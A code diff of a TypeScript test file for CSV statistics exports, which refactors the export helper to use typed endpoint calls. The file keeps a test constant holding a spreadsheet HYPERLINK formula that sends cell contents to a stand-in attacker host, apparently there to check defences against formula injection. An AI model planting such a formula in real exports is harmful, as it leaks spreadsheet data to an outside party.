@@ -4,9 +4,10 @@
  * a negative amount included, stay numbers.
  */
 import { eq } from 'drizzle-orm';
+import { statisticsEndpoints, type ReportType } from '@portal/contracts';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { conversions, offers } from '../src/db/schema.js';
-import { bearer, buildTestApp, createPartner, login, testClock, type TestApp } from './helper.js';
+import { buildTestApp, callEndpoint, createPartner, expectOk, login, testClock, type TestApp } from './helper.js';
 import { advertiserTokenOf, createOffer } from './offer-fixtures.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
@@ -49,15 +50,11 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-async function exported(type: string): Promise<string[][]> {
-  const res = await t.app.inject({
-    method: 'GET',
-    url: `/api/v1/statistics/export/${type}?${new URLSearchParams(DAY).toString()}`,
-    headers: bearer(token),
-  });
-  expect(res.statusCode, res.body).toBe(200);
+async function exported(type: ReportType): Promise<string[][]> {
+  const res = await callEndpoint(t.app, statisticsEndpoints.export, { params: { type }, query: DAY }, token);
+  expectOk(res);
   expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
-  return parseCsv(res.body);
+  return parseCsv(res.raw.body);
 }
 
 beforeAll(async () => {
